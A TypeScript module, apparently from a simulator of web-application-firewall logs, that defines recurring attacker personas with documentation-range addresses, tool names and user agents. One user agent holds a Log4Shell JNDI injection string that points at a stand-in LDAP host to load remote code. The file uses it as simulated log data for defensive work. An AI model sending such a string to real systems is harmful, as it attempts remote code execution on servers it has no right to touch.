import type { Random } from "@/lib/simulator/random";
import { LOCATIONS, type Location } from "@/lib/simulator/story/locations";

/** Somebody who attacks, with the addresses that show up in every product. */
export interface Actor {
  readonly name: string;
  readonly location: Location;
  readonly addresses: readonly string[];
  /** The client or tool that the WAF recognises. */
  readonly tool: string;
  readonly userAgent: string;
}

/** Addresses first…last of a documentation range. */
function range(prefix: string, first: number, last: number): string[] {
  return Array.from({ length: last - first + 1 }, (_, index) => `${prefix}${first + index}`);
}

const CHROME =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";

/** The same people come back over the whole story; only documentation and shared address ranges. */
export const ACTORS: readonly Actor[] = [
  {
    name: "stuffing crew",
    location: LOCATIONS.saoPaulo,
    addresses: range("203.0.113.", 10, 34),
    tool: "OpenBullet",
    userAgent: CHROME,
  },
  {
    name: "log4shell botnet",
    location: LOCATIONS.amsterdam,
    addresses: [...range("198.51.100.", 40, 52), "2001:db8:bad::40"],
    tool: "nuclei",
    userAgent: `Mozilla/5.0 (compatible; \${jndi:ldap://198.51.100.41:1389/a})`,
  },
  {
    name: "data thief",
    location: LOCATIONS.frankfurt,
    addresses: ["203.0.113.77", "203.0.113.78", "2001:db8:77::1:5"],
    tool: "sqlmap",
    userAgent: "sqlmap/1.8.11#stable (https://sqlmap.org)",
  },
  {
    name: "webshell operator",
    location: LOCATIONS.hongKong,
    addresses: ["198.51.100.121", "198.51.100.122"],
    tool: "Behinder",
    userAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
  },
  {
    name: "internet scanner",
    location: LOCATIONS.ashburn,
    addresses: [...range("198.51.100.", 200, 219), "2001:db8:5ca:1::9", "2001:db8:5ca:2::a"],
    tool: "masscan",
    userAgent: "Mozilla/5.0 zgrab/0.x",
  },
  {
    name: "directory scanner",
    location: LOCATIONS.london,
    addresses: range("203.0.113.", 140, 146),
    tool: "dirsearch",
    userAgent: "dirsearch/0.4.3",
  },
  {
    name: "sms pumping ring",
    location: LOCATIONS.mumbai,
    addresses: range("203.0.113.", 160, 190),
    tool: "python-requests",
    userAgent: "python-requests/2.32.3",
  },
  {
    name: "price scraper",
    location: LOCATIONS.chengdu,
    addresses: range("100.64.12.", 3, 15),
    tool: "Scrapy",
    userAgent: "Scrapy/2.11.2 (+https://scrapy.org)",
  },
  {
    name: "careless insider",
    location: LOCATIONS.beijing,
    addresses: ["10.12.3.44", "192.168.31.7"],
    tool: "Chrome",
    userAgent: CHROME,
  },
];

/** @throws when the story names nobody of that name. */
export function actorNamed(name: string): Actor {
  const actor = ACTORS.find((candidate) => candidate.name === name);
  if (!actor) throw new Error(`the story has no actor "${name}"`);
  return actor;
}

const STRAY_TOOLS = ["curl", "Go-http-client", "python-requests", "Chrome", "Firefox", "okhttp", "", "zgrab"];

/** Somebody who is seen once: a stray address, sometimes IPv6, from anywhere. */
export function stray(source: Random): Actor {
  const address = source.weighted<() => string>([
    [() => `203.0.113.${source.int(1, 254)}`, 4],
    [() => `198.51.100.${source.int(1, 254)}`, 4],
    [() => `100.${source.int(64, 127)}.${source.int(0, 255)}.${source.int(1, 254)}`, 1],
    [() => `2001:db8:${source.hex(4).replace(/^0+(?=.)/, "")}::${source.int(1, 9999)}`, 1],
  ])();
  const tool = source.pick(STRAY_TOOLS);
  return {
    name: "stray",
    location: source.pick(Object.values(LOCATIONS)),
    addresses: [address],
    tool,
    userAgent: tool === "" ? "-" : `${tool}/${source.int(1, 9)}.${source.int(0, 20)}`,
  };
}
